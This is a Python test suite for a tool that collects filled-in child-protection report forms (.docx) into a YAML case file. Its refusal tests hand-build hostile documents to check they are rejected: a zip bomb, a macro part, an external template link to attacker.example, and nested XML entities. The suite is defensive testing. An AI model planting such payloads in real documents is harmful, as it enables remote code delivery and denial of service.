"""``cpcdocs collect``: returned forms, as Word and LibreOffice save them, back into the case.

The forms are rendered for the contract's example record (``tests/forms/case.yaml``, a copy),
filled in as an author would (python-docx for the Word route, with Word's own markup for runs,
revisions and w14/w15 controls written in by hand as Word documents them; LibreOffice itself
through UNO for the LibreOffice route), collected, and the result loaded with the case.
"""

from __future__ import annotations

import copy
import datetime as dt
import hashlib
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml
from conftest import run_cli
from docx import Document
from docx.oxml.ns import qn
from lxml import etree

from cpcdocs.collect import MAX_FILE_BYTES, collect, read_form
from cpcdocs.forms import DESCRIPTOR_PART, Descriptor, form_views, render_form
from cpcdocs.load import load_case, resolve_authority
from cpcdocs.pack import get_renderer

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "tests" / "forms"
CASE = FIXTURES / "case.yaml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W14 = "http://schemas.microsoft.com/office/word/2010/wordml"
W15 = "http://schemas.microsoft.com/office/word/2012/wordml"


# -- rendering and filling ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def forms() -> dict[str, bytes]:
    """Every returnable form of the example case, as rendered: file name -> bytes."""
    case = load_case(CASE)
    authority = resolve_authority(case, case_file=str(CASE))
    renderer = get_renderer()
    return {
        name: render_form(renderer, view)
        for name, view in form_views(case, authority, dt.date(2026, 12, 14))
    }


def _case_without_returns(folder: Path, include: str | None = "returned.yaml") -> Path:
    """The example case minus its reports and the record's minutes, naming ``include``.

    The chair's part of the record (approval, who does not receive it) stays in the case.
    """
    text = CASE.read_text(encoding="utf-8").split("\n# Returned reports")[0]
    if include:
        text += f"\ninclude: [{include}]\n"
    text += (
        "record:\n  approved_on: 2027-01-12\n  not_sent_to:\n    - id: father-theo\n"
        "      reason: Sending the record would tell Mr Quinn what Ms Harrow said.\n"
        "  to_children: [maya]\n"
    )
    path = folder / "case.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _tagged(doc, tag: str):
    found = [
        s
        for s in doc.element.body.iter(qn("w:sdt"))
        if (t := s.find(qn("w:sdtPr") + "/" + qn("w:tag"))) is not None
        and t.get(qn("w:val")) == tag
    ]
    assert len(found) == 1, tag
    return found[0]


def _content(sdt):
    pr = sdt.find(qn("w:sdtPr"))
    for placeholder in pr.findall(qn("w:showingPlcHdr")):
        pr.remove(placeholder)
    return sdt.find(qn("w:sdtContent"))


def _write(doc, tag: str, text: str) -> None:
    """Type ``text`` into a rich text control, one paragraph per blank-line-separated part."""
    content = _content(_tagged(doc, tag))
    first, *rest = content.findall(qn("w:p"))
    for extra in rest:
        content.remove(extra)
    for run in first.findall(qn("w:r")):
        first.remove(run)
    previous = None
    for chunk in text.split("\n\n"):
        paragraph = first if previous is None else copy.deepcopy(first)
        for run in paragraph.findall(qn("w:r")):
            paragraph.remove(run)
        run = etree.SubElement(paragraph, qn("w:r"))
        etree.SubElement(run, qn("w:t")).text = chunk
        if previous is not None:
            previous.addnext(paragraph)
        previous = paragraph


def _choose(doc, tag: str, value: str) -> None:
    content = _content(_tagged(doc, tag))
    first, *rest = content.findall(qn("w:r"))
    for run in rest:
        content.remove(run)
    for rpr in first.findall(qn("w:rPr")):
        first.remove(rpr)
    first.find(qn("w:t")).text = value


def _tick(doc, tag: str) -> None:
    sdt = _tagged(doc, tag)
    box = sdt.find(qn("w:sdtPr")).find(f"{{{W14}}}checkbox")
    box.find(f"{{{W14}}}checked").set(f"{{{W14}}}val", "1")
    next(sdt.find(qn("w:sdtContent")).iter(qn("w:t"))).text = "\u2612"


def fill(
    data: bytes,
    sections: dict[str, tuple[str, str | None, list[str]]],
    *,
    report_share: str | None = "Yes",
    reason: str | None = None,
    present: tuple[str, ...] = (),
    apologies: tuple[str, ...] = (),
) -> bytes:
    """Fill a form with python-docx as an author in Word would: {section: (text, share, about)}."""
    doc = Document(io.BytesIO(data))
    for sid, (text, share, about) in sections.items():
        _write(doc, f"cpcdocs:text:{sid}", text)
        if share:
            _choose(doc, f"cpcdocs:share:{sid}", share)
        for pid in about:
            _tick(doc, f"cpcdocs:about:{sid}:{pid}")
    if report_share:
        _choose(doc, "cpcdocs:report-share", report_share)
    if reason:
        _write(doc, "cpcdocs:not-shared-reason", reason)
    for pid in present:
        _tick(doc, f"cpcdocs:present:{pid}")
    for pid in apologies:
        _tick(doc, f"cpcdocs:apologies:{pid}")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


#: The teacher's report on Maya: every section written, one kept back, one about a parent.
AMES = {
    "involvement": ("Maya has been at Northmoor Academy since September 2024.", "Yes", ["maya"]),
    "worried": (
        "Maya told her form tutor she worries about her mum.\n\nShe has been late twice a week.",
        "Yes",
        ["mother", "maya"],
    ),
    "working_well": ("Maya plays netball after school every Tuesday.", "Yes", []),
    "needs_to_happen": ("Weekly check-ins with her form tutor.", "Yes", ["maya"]),
    "child_views": ("Maya says she wants to stay at home with her mum.", "Yes", ["maya"]),
    "facts": ("Maya's attendance is 81% this term.", "Yes", ["maya"]),
    "allegations": (
        "A classmate said Mr Lin shouted at Maya at the school gate.",
        "No",
        ["father-maya"],
    ),
    "opinions": ("Maya seems anxious on Monday mornings.", "Yes", ["maya"]),
    "parenting_capacity": ("Ms Harrow comes to every parents' evening.", "Yes", ["mother"]),
    "family_environment": ("Maya lives with her mother and her brother.", "Yes", ["mother"]),
}
AMES_REASON = "The classmate's account has not been checked yet."

#: The social worker's report on Theo: written in part, the rest left empty.
PATEL = {
    "child_views": ("Theo is three and was seen at home with his mother.", "Yes", ["theo"]),
    "worried": ("Theo was present during the incident in November.", "Yes", ["theo"]),
    "working_well": ("His grandmother, Halina Harrow, helps every day.", "Yes", ["grandmother"]),
    "analysis": ("Mr Quinn's bail conditions are not yet tested.", "No", ["father-theo"]),
}

#: The minute-taker's record.
DOYLE = {
    "maya/information": ("The school described Maya's attendance.", "Yes", ["maya"]),
    "maya/child_views": ("Maya said she feels safest at home.", "Yes", ["maya"]),
    "theo/information": ("The police described their investigation.", "No", ["father-theo"]),
    "theo/decision_reasons": ("Theo is likely to suffer significant harm.", "Yes", []),
}


def _expected_sections(answers: dict[str, tuple[str, str | None, list[str]]], headings) -> list:
    out = []
    for sid, (text, share, about) in answers.items():
        item = {"heading": headings[sid], "text": text}
        if about:
            item["about"] = about
        if share == "No":
            item["tags"] = ["chair_confidential"]
        out.append(item)
    return out


# -- the Word round trip ---------------------------------------------------------------------------


def test_round_trip_word_forms_load_with_the_case(forms, tmp_path) -> None:
    case_path = _case_without_returns(tmp_path)
    files = {
        "ames.docx": fill(
            forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON
        ),
        "patel.docx": fill(
            forms["child_report-sw-patel-theo.docx"],
            PATEL,
            reason="Mr Quinn must not learn how his bail is being watched.",
        ),
        "doyle.docx": fill(
            forms["record_shell-mt-doyle.docx"],
            DOYLE,
            report_share=None,
            present=("mother", "maya", "sw-patel"),
            apologies=("gp-shah",),
        ),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    status, out, err = run_cli(
        "collect",
        *(tmp_path / n for n in files),
        "--case",
        case_path,
        "-o",
        tmp_path / "returned.yaml",
        "--received-on",
        "2027-01-02",
    )
    assert status == 0, err
    assert out.splitlines()[0].split() == ["file", "form", "author", "child", "sections", "shared"]
    assert "ames.docx" in out and "yes (1 kept back)" in out
    status, out, err = run_cli("validate", case_path)
    assert status == 0, err

    case = load_case(case_path)
    by_author = {r.author: r for r in case.reports}
    ames = by_author["teacher-ames"]
    assert (ames.child, ames.received_on, ames.shared_with_family) == (
        "maya",
        dt.date(2027, 1, 2),
        True,
    )
    assert str(ames.not_shared_reason) == AMES_REASON
    got = [s.model_dump(exclude_defaults=True) for s in ames.sections]
    headings = {
        "involvement": "Your agency's involvement and contact",
        "worried": "What we are worried about",
        "working_well": "What is working well",
        "needs_to_happen": "What needs to happen",
        "child_views": "The child's views, wishes and feelings",
        "facts": "Facts",
        "allegations": "Allegations",
        "opinions": "Opinions",
        "parenting_capacity": "Parenting capacity",
        "family_environment": "Family and environment",
    }
    assert got == _expected_sections(AMES, headings)
    patel = by_author["sw-patel"]
    assert patel.child == "theo"
    assert [s.text for s in patel.sections] == [t for t, _, _ in PATEL.values()]
    assert [s.tags for s in patel.sections] == [[], [], [], ["chair_confidential"]]

    record = case.record
    assert record.approved_on == dt.date(2027, 1, 12)  # the chair's part, from the case
    assert record.present == ["mother", "maya", "sw-patel"]
    assert record.apologies == ["gp-shah"]
    info = record.sections.information
    assert [(i.text, i.children, i.tags) for i in info] == [
        ("The school described Maya's attendance.", ["maya"], []),
        ("The police described their investigation.", ["theo"], ["chair_confidential"]),
    ]
    assert [i.text for i in record.sections.decision_reasons] == [
        "Theo is likely to suffer significant harm."
    ]
    assert record.sections.parents_views == []


def _wordify(data: bytes) -> bytes:
    """Mark a filled form up the way Word saves an edited one (ECMA-376 and [MS-DOCX]).

    - the text of "worried" split across runs with rsid attributes and proofing marks, as
      Word leaves it after editing; a tracked insertion (``w:ins``) and a tracked deletion
      (``w:del``/``w:delText``) in it;
    - the "facts" control wrapped in a repeating section (``w15:repeatingSection`` holding
      ``w15:repeatingSectionItem`` controls), with a second item added;
    - ``w15:color`` and ``w15:appearance`` on a control, as Word 2013 writes them.
    """
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    root = etree.fromstring(parts["word/document.xml"])
    nsmap_w = f"{{{W}}}"

    def tagged(tag: str):
        for sdt in root.iter(f"{nsmap_w}sdt"):
            t = sdt.find(f"{nsmap_w}sdtPr/{nsmap_w}tag")
            if t is not None and t.get(f"{nsmap_w}val") == tag:
                return sdt
        raise AssertionError(tag)

    worried = tagged("cpcdocs:text:worried")
    paragraph = worried.find(f"{nsmap_w}sdtContent/{nsmap_w}p")
    for run in paragraph.findall(f"{nsmap_w}r"):
        paragraph.remove(run)
    pieces = [
        '<w:r w:rsidR="00A1B2C3"><w:t xml:space="preserve">Maya told her </w:t></w:r>',
        '<w:proofErr w:type="spellStart"/>',
        '<w:r w:rsidR="00D4E5F6"><w:t>fo</w:t></w:r><w:r w:rsidR="00D4E5F7"><w:t>rm</w:t></w:r>',
        '<w:proofErr w:type="spellEnd"/>',
        '<w:r><w:t xml:space="preserve"> tutor she </w:t></w:r>',
        '<w:del w:id="901" w:author="Paul Ames" w:date="2027-01-01T09:00:00Z">'
        '<w:r><w:delText xml:space="preserve">sometimes </w:delText></w:r></w:del>',
        '<w:r><w:t xml:space="preserve">worries about her </w:t></w:r>',
        '<w:ins w:id="902" w:author="Paul Ames" w:date="2027-01-01T09:01:00Z">'
        "<w:r><w:t>mum</w:t></w:r></w:ins>",
        "<w:r><w:t>.</w:t></w:r>",
    ]
    for piece in pieces:
        paragraph.extend(etree.fromstring(f'<x xmlns:w="{W}">{piece}</x>'))

    facts = tagged("cpcdocs:text:facts")
    facts_pr = facts.find(f"{nsmap_w}sdtPr")
    facts_pr.append(etree.fromstring(f'<w15:color xmlns:w15="{W15}" w15:val="FF0000"/>'))
    facts_pr.append(etree.fromstring(f'<w15:appearance xmlns:w15="{W15}" w15:val="tags"/>'))
    content = facts.find(f"{nsmap_w}sdtContent")
    paragraphs = list(content)
    item_xml = (
        f'<w:sdt xmlns:w="{W}" xmlns:w15="{W15}"><w:sdtPr><w:id w:val="{{n}}"/>'
        "<w15:repeatingSectionItem/></w:sdtPr><w:sdtContent/></w:sdt>"
    )
    repeating = etree.fromstring(
        f'<w:sdt xmlns:w="{W}" xmlns:w15="{W15}"><w:sdtPr><w:id w:val="903"/>'
        '<w15:repeatingSection><w15:sectionTitle w15:val="Fact"/></w15:repeatingSection>'
        "</w:sdtPr><w:sdtContent/></w:sdt>"
    )
    first = etree.fromstring(item_xml.replace("{n}", "904"))
    for p in paragraphs:
        content.remove(p)
        first.find(f"{nsmap_w}sdtContent").append(p)
    second = etree.fromstring(item_xml.replace("{n}", "905"))
    extra = copy.deepcopy(paragraphs[0])
    for t in extra.iter(f"{nsmap_w}t"):
        t.text = ""
    next(extra.iter(f"{nsmap_w}t")).text = "The school nurse saw Maya twice."
    second.find(f"{nsmap_w}sdtContent").append(extra)
    repeating.find(f"{nsmap_w}sdtContent").extend([first, second])
    content.append(repeating)

    parts["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    return out.getvalue()


def test_word_markup_runs_revisions_and_w15_controls(forms, tmp_path) -> None:
    data = _wordify(fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON))
    path = tmp_path / "ames-word.docx"
    path.write_bytes(data)
    form = read_form(path)
    answers = {a.sid: a for a in form.answers}
    assert answers["worried"].text == (
        "Maya told her form tutor she worries about her mum.\n\nShe has been late twice a week."
    )
    assert answers["worried"].about == ("mother", "maya")
    assert answers["facts"].text == (
        "Maya's attendance is 81% this term.\n\nThe school nurse saw Maya twice."
    )
    assert answers["allegations"].shared is False


# -- the LibreOffice round trip --------------------------------------------------------------------


def _libreoffice_reason() -> str | None:
    """Why the LibreOffice test cannot run here, or None when it can."""
    if shutil.which("soffice") is None:
        return "LibreOffice is not installed (tools/install-system-deps.sh --test installs it)"
    probe = subprocess.run(
        ["/usr/bin/python3", "-c", "import uno"], capture_output=True, check=False
    )
    if probe.returncode != 0:
        return "python3-uno is not installed (tools/install-system-deps.sh --test installs it)"
    return None


def _lo_answers(source: Path, answers: dict, **extra) -> dict:
    """Answers by bookmark index and tick box position: what a LibreOffice user sees."""
    descriptor = read_form(source).descriptor
    order = list(descriptor.sections)
    return {
        "sections": {
            str(order.index(sid)): {
                "text": text.replace("\n\n", "\n"),
                "share": share,
                "about": [descriptor.about.index(p) for p in about],
            }
            for sid, (text, share, about) in answers.items()
        },
        **extra,
    }


@pytest.mark.slow
def test_round_trip_libreoffice_saved_forms(forms, tmp_path) -> None:
    """The proforma and the record shell, filled and saved by LibreOffice (one session)."""
    reason = _libreoffice_reason()
    if reason:
        pytest.skip(reason)
    ames = tmp_path / "ames-form.docx"
    ames.write_bytes(forms["report_proforma-teacher-ames-maya.docx"])
    doyle = tmp_path / "doyle-form.docx"
    doyle.write_bytes(forms["record_shell-mt-doyle.docx"])
    attendance = list(read_form(doyle).descriptor.attendance)
    jobs = [
        {
            "source": str(ames),
            "target": str(tmp_path / "ames-libreoffice.docx"),
            "answers": _lo_answers(ames, AMES, report_share="Yes", reason=AMES_REASON),
        },
        {
            "source": str(doyle),
            "target": str(tmp_path / "doyle-libreoffice.docx"),
            "answers": _lo_answers(
                doyle,
                DOYLE,
                present=[attendance.index(p) for p in ("mother", "maya", "sw-patel")],
                apologies=[attendance.index("gp-shah")],
            ),
        },
    ]
    (tmp_path / "jobs.json").write_text(json.dumps(jobs), encoding="utf-8")
    subprocess.run(
        ["/usr/bin/python3", FIXTURES / "lo_fill.py", tmp_path / "jobs.json", tmp_path / "lo"],
        check=True,
        timeout=180,
    )
    saved = [Path(job["target"]) for job in jobs]
    for path in saved:
        with zipfile.ZipFile(path) as archive:
            document = archive.read("word/document.xml")
        assert b"cpcdocs:text:" not in document, "LibreOffice 7 drops tags: the fallback is tested"

    case_path = _case_without_returns(tmp_path)
    status, _, err = run_cli("collect", *saved, "--case", case_path, "--received-on", "2027-01-02")
    assert status == 0, err
    assert (tmp_path / "returned.yaml").exists()
    status, _, err = run_cli("validate", case_path)
    assert status == 0, err
    case = load_case(case_path)
    (report,) = case.reports
    got = [(s.text, s.about, s.tags) for s in report.sections]
    assert got == [
        (text.replace("\n\n", "\n"), about, ["chair_confidential"] if share == "No" else [])
        for text, share, about in AMES.values()
    ]
    assert str(report.not_shared_reason) == AMES_REASON
    record = case.record
    assert (record.present, record.apologies) == (["mother", "maya", "sw-patel"], ["gp-shah"])
    assert [(i.text, i.children, i.about, i.tags) for i in record.sections.information] == [
        ("The school described Maya's attendance.", ["maya"], ["maya"], []),
        (
            "The police described their investigation.",
            ["theo"],
            ["father-theo"],
            ["chair_confidential"],
        ),
    ]
    assert [i.text for i in record.sections.child_views] == ["Maya said she feels safest at home."]


# -- refusals --------------------------------------------------------------------------------------


def _rezip(data: bytes, change) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    return out.getvalue()


def _forge(data: bytes, **fields: str) -> bytes:
    """A form whose descriptor and visible identification both say ``fields``: a careful
    forgery, which only the case can catch."""

    def change(parts: dict[str, bytes]) -> None:
        root = etree.fromstring(parts[DESCRIPTOR_PART])
        old = {k: root.get(k) for k in ("case", "kind", "author", "child", "version")}
        ns = root.tag.split("}")[0][1:]
        groups = {
            g: tuple(e.get("id") for e in root.find(f"{{{ns}}}{g}"))
            for g in ("sections", "about", "attendance")
        }
        new = {**old, **fields}
        descriptor = Descriptor(**new, **groups)
        parts[DESCRIPTOR_PART] = descriptor.to_xml()
        document = parts["word/document.xml"].decode()
        for key, value in fields.items():
            document = document.replace(f">{old[key]}</w:t>", f">{value}</w:t>")
        parts["word/document.xml"] = document.encode()

    return _rezip(data, change)


@pytest.fixture
def ames(forms) -> bytes:
    return fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON)


#: What an earlier run of collect left: a refused run must leave it exactly as it was.
OLD_OUTPUT = "# Written by `cpcdocs collect` from the returned forms, earlier\nreports: []\n"


def _refused(tmp_path: Path, data: bytes | None, *, case: Path | None = None, name="form.docx"):
    """Collect a good form and then ``data``; the status, the message, and the output left."""
    good = tmp_path / "good.docx"
    if not good.exists():
        raise AssertionError("write good.docx first")
    files = [good]
    if data is not None:
        (tmp_path / name).write_bytes(data)
        files.append(tmp_path / name)
    output = tmp_path / "returned.yaml"
    output.write_text(OLD_OUTPUT, encoding="utf-8")
    status, _, err = run_cli(
        "collect", *files, "--case", case or _case_without_returns(tmp_path, None), "-o", output
    )
    assert output.read_text(encoding="utf-8") == OLD_OUTPUT, "nothing is written"
    assert list(tmp_path.glob(".returned.yaml.*")) == [], "no temporary file is left"
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    return status, lines[0]


@pytest.fixture
def good(tmp_path, forms) -> Path:
    path = tmp_path / "good.docx"
    path.write_bytes(
        fill(
            forms["report_proforma-pc-mensah-theo.docx"],
            {
                "involvement": ("The police attended twice in November.", "Yes", ["mother"]),
            },
        )
    )
    return path


def test_refuses_another_cases_form(tmp_path, good, ames) -> None:
    other = CASE.read_text(encoding="utf-8").replace("NM-2026-0412", "NM-2026-0999", 1)
    case = tmp_path / "other.yaml"
    case.write_text(other, encoding="utf-8")
    good.unlink()
    good.write_bytes(ames)
    status, line = _refused(tmp_path, None, case=case)
    assert status == 2
    assert "good.docx: this form is for case NM-2026-0412, not NM-2026-0999" in line


def test_refuses_an_edited_identification(tmp_path, good, ames) -> None:
    edited = _rezip(
        ames,
        lambda parts: parts.__setitem__(
            "word/document.xml",
            parts["word/document.xml"].replace(b">maya</w:t>", b">theo</w:t>"),
        ),
    )
    status, line = _refused(tmp_path, edited)
    assert status == 2
    assert line.endswith(
        "form.docx: the form's identification has been edited (Child id reads 'theo', the "
        "form was made for 'maya')"
    )


def test_refuses_an_edited_descriptor(tmp_path, good, ames) -> None:
    edited = _rezip(
        ames,
        lambda parts: parts.__setitem__(
            DESCRIPTOR_PART, parts[DESCRIPTOR_PART].replace(b'child="maya"', b'child="theo"')
        ),
    )
    status, line = _refused(tmp_path, edited)
    assert status == 2
    assert line.endswith("form.docx: the form's identification has been edited")


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"child": "zoe"}, "the child 'zoe' is not in this case"),
        ({"author": "pc-nobody"}, "the author 'pc-nobody' is not a professional in this case"),
        ({"child": "theo"}, "'teacher-ames' does not report on the child 'theo'"),
        ({"kind": "child_report"}, "'teacher-ames' is not the lead social worker of this case"),
    ],
)
def test_refuses_a_careful_forgery_the_case_contradicts(tmp_path, good, ames, fields, message):
    status, line = _refused(tmp_path, _forge(ames, **fields))
    assert status == 2
    assert line.endswith(f"form.docx: {message}"), line


def test_refuses_a_section_with_no_sharing_choice(tmp_path, good, forms) -> None:
    answers = {**AMES, "opinions": ("Maya seems anxious.", None, ["maya"])}
    data = fill(forms["report_proforma-teacher-ames-maya.docx"], answers, reason=AMES_REASON)
    status, line = _refused(tmp_path, data)
    assert status == 2
    assert line.endswith(
        "form.docx: section 'Opinions': no answer to 'May this section be shared with the family?'"
    )


def test_refuses_a_report_not_shared_without_a_reason(tmp_path, good, forms) -> None:
    data = fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, report_share="No")
    status, line = _refused(tmp_path, data)
    assert status == 2
    assert line.endswith(
        "form.docx: section 'Sharing this report with the family': the report is not to be "
        "shared and no reason is given"
    )


def test_refuses_a_kept_back_section_without_a_reason(tmp_path, good, forms) -> None:
    data = fill(forms["report_proforma-teacher-ames-maya.docx"], AMES)
    status, line = _refused(tmp_path, data)
    assert status == 2
    assert "'Allegations' is not to be shared and no reason is given" in line


def test_refuses_the_same_form_twice(tmp_path, good) -> None:
    status, line = _refused(tmp_path, good.read_bytes())
    assert status == 2
    assert "the same form as" in line


def test_refuses_a_file_over_the_size_limit(tmp_path, good) -> None:
    big = tmp_path / "big.docx"
    with big.open("wb") as handle:
        handle.truncate(50 * 1024 * 1024)  # sparse: 50 MB on paper, nothing on disk
    assert big.stat().st_size > MAX_FILE_BYTES
    files = [good, big]
    output = tmp_path / "returned.yaml"
    status, _, err = run_cli("collect", *files, "--case", CASE, "-o", output)
    assert status == 2
    assert err.strip().endswith("big.docx: larger than 20 MB: not a returned form")
    assert not output.exists()


def test_refuses_a_zip_bomb(tmp_path, good, ames) -> None:
    def bomb(parts: dict[str, bytes]) -> None:
        parts["word/media/filler.bin"] = bytes(30 * 1024 * 1024)

    status, line = _refused(tmp_path, _rezip(ames, bomb))
    assert status == 2
    assert "unzips to 31457280 bytes (a zip bomb?)" in line


def test_refuses_macros(tmp_path, good, ames) -> None:
    def macros(parts: dict[str, bytes]) -> None:
        parts["word/vbaProject.bin"] = b'Attribute VB_Name = "ThisDocument"'

    status, line = _refused(tmp_path, _rezip(ames, macros))
    assert status == 2
    assert "contains macros or ActiveX (word/vbaProject.bin)" in line
    status, line = _refused(tmp_path, ames, name="form.docm")
    assert "a macro-enabled document (.docm)" in line


def test_refuses_external_relationships_but_keeps_hyperlinks(tmp_path, good, ames) -> None:
    def template(parts: dict[str, bytes]) -> None:
        rel = (
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
            b'TargetMode="External"/></Relationships>'
        )
        parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", rel
        )

    status, line = _refused(tmp_path, _rezip(ames, template))
    assert status == 2
    assert "links to an external attachedTemplate (word/_rels/document.xml.rels)" in line

    def hyperlink(parts: dict[str, bytes]) -> None:
        rel = (
            b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/hyperlink" Target="https://www.example.org/" '
            b'TargetMode="External"/></Relationships>'
        )
        parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", rel
        )

    path = tmp_path / "linked.docx"
    path.write_bytes(_rezip(ames, hyperlink))
    assert read_form(path).descriptor.author == "teacher-ames"


def test_refuses_xml_entities(tmp_path, good, ames) -> None:
    def entities(parts: dict[str, bytes]) -> None:
        xml = parts["word/document.xml"]
        head, rest = xml.split(b"?>", 1)
        dtd = b'<!DOCTYPE w:document [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
        parts["word/document.xml"] = head + b"?>" + dtd + rest.replace(b"Maya", b"&lol2;", 1)

    status, line = _refused(tmp_path, _rezip(ames, entities))
    assert status == 2
    assert "part word/document.xml declares a DTD or entities" in line


def test_refuses_a_file_that_is_not_a_form(tmp_path, good) -> None:
    status, line = _refused(tmp_path, b"%PDF-1.7 not a docx")
    assert status == 2
    assert line.endswith("form.docx: not a Word document (.docx)")
    plain = io.BytesIO()
    Document().save(plain)
    status, line = _refused(tmp_path, plain.getvalue())
    assert "not a cpcdocs form (no form identification)" in line


# -- the include -----------------------------------------------------------------------------------


def test_include_problems_are_located_in_the_included_file(tmp_path) -> None:
    case_path = _case_without_returns(tmp_path)
    (tmp_path / "returned.yaml").write_text(
        "reports:\n  - author: teacher-ames\n    child: maya\n    shared_with_familly: true\n"
        "record:\n  approved_on: 2027-01-12\ncase: {}\n",
        encoding="utf-8",
    )
    status, _, err = run_cli("validate", case_path)
    assert status == 2
    included = str(tmp_path / "returned.yaml")
    lines = sorted(err.strip().splitlines())
    assert lines == sorted(
        [
            f"{included}:4:5: reports[0].shared_with_familly: unknown key "
            "'shared_with_familly' (did you mean 'shared_with_family'?)",
            f"{included}:6:3: record.approved_on: record.approved_on is also given in "
            f"{case_path} (line {_line_of(case_path, 'approved_on')})",
            f"{included}:7:1: case: an included file may hold only reports and record",
        ]
    )


def _line_of(path: Path, key: str) -> int:
    lines = path.read_text(encoding="utf-8").splitlines()
    return max(i for i, line in enumerate(lines, 1) if line.strip().startswith(key + ":"))


def test_include_missing_file_is_named_at_the_include(tmp_path) -> None:
    case_path = _case_without_returns(tmp_path, include="nowhere.yaml")
    status, _, err = run_cli("validate", case_path)
    assert status == 2
    assert re.search(
        r"case\.yaml:\d+:\d+: include\[0\]: included file 'nowhere.yaml' not found", err
    )


def test_collect_writes_yaml_the_case_can_include(forms, tmp_path) -> None:
    (tmp_path / "ames.docx").write_bytes(
        fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON)
    )
    case_path = _case_without_returns(tmp_path, include=None)
    result = collect([tmp_path / "ames.docx"], case_path, received_on=dt.date(2027, 1, 2))
    assert result.output == tmp_path / "returned.yaml"
    text = result.output.read_text(encoding="utf-8")
    assert text.startswith("# Written by `cpcdocs collect`")
    assert "include: [returned.yaml]" in text
    data = yaml.safe_load(text)
    assert list(data) == ["reports"]
    assert data["reports"][0]["sections"][1]["text"] == (
        "Maya told her form tutor she worries about her mum.\n\nShe has been late twice a week."
    )
    assert hashlib.sha256(text.encode()).hexdigest()  # written whole, readable


def test_text_typed_beside_a_control_is_kept(forms, tmp_path) -> None:
    """A Word author who clicks beside a control and types: the cell's text is the answer."""
    data = fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON)
    doc = Document(io.BytesIO(data))
    cell = _tagged(doc, "cpcdocs:text:working_well").getparent()
    paragraph = etree.SubElement(cell, qn("w:p"))
    run = etree.SubElement(paragraph, qn("w:r"))
    etree.SubElement(run, qn("w:t")).text = "Her grandmother collects her on Fridays."
    out = io.BytesIO()
    doc.save(out)
    path = tmp_path / "beside.docx"
    path.write_bytes(out.getvalue())
    answers = {a.sid: a for a in read_form(path).answers}
    assert answers["working_well"].text == (
        "Maya plays netball after school every Tuesday.\n\nHer grandmother collects her on Fridays."
    )


def test_a_stale_placeholder_flag_does_not_hide_an_answer(forms, tmp_path) -> None:
    """An editor that leaves ``w:showingPlcHdr`` on a filled control loses nothing."""
    data = fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON)
    doc = Document(io.BytesIO(data))
    for tag in ("cpcdocs:text:facts", "cpcdocs:share:facts"):
        etree.SubElement(_tagged(doc, tag).find(qn("w:sdtPr")), qn("w:showingPlcHdr"))
    out = io.BytesIO()
    doc.save(out)
    path = tmp_path / "stale.docx"
    path.write_bytes(out.getvalue())
    answers = {a.sid: a for a in read_form(path).answers}
    assert (answers["facts"].text, answers["facts"].shared) == (
        "Maya's attendance is 81% this term.",
        True,
    )
    assert answers["working_well"].shared is True


def test_refuses_an_empty_form(tmp_path, good, forms) -> None:
    data = fill(forms["report_proforma-teacher-ames-maya.docx"], {})
    status, line = _refused(tmp_path, data)
    assert status == 2
    assert line.endswith("form.docx: nothing has been written in the form")


def test_refuses_a_report_the_case_file_already_holds(tmp_path, forms) -> None:
    """The example case has teacher-ames's report on Maya written by hand."""
    (tmp_path / "ames.docx").write_bytes(
        fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON)
    )
    status, _, err = run_cli(
        "collect", tmp_path / "ames.docx", "--case", CASE, "-o", tmp_path / "out.yaml"
    )
    assert status == 2
    assert err.strip().endswith(
        f"ames.docx: {CASE} already holds this report (reports[0]): take it out of the case "
        "file or leave this form out"
    )
    assert not (tmp_path / "out.yaml").exists()


def test_collecting_again_keeps_the_date_a_report_first_came_back(forms, tmp_path) -> None:
    (tmp_path / "ames.docx").write_bytes(
        fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON)
    )
    (tmp_path / "mensah.docx").write_bytes(
        fill(
            forms["report_proforma-pc-mensah-theo.docx"],
            {"involvement": ("The police attended twice.", "Yes", ["mother"])},
        )
    )
    case_path = _case_without_returns(tmp_path)
    collect([tmp_path / "ames.docx"], case_path, received_on=dt.date(2027, 1, 2))
    again = collect(
        [tmp_path / "ames.docx", tmp_path / "mensah.docx"],
        case_path,
        received_on=dt.date(2027, 1, 4),
    )
    dates = {r["author"]: r["received_on"] for r in again.data["reports"]}
    assert dates == {"teacher-ames": dt.date(2027, 1, 2), "pc-mensah": dt.date(2027, 1, 4)}


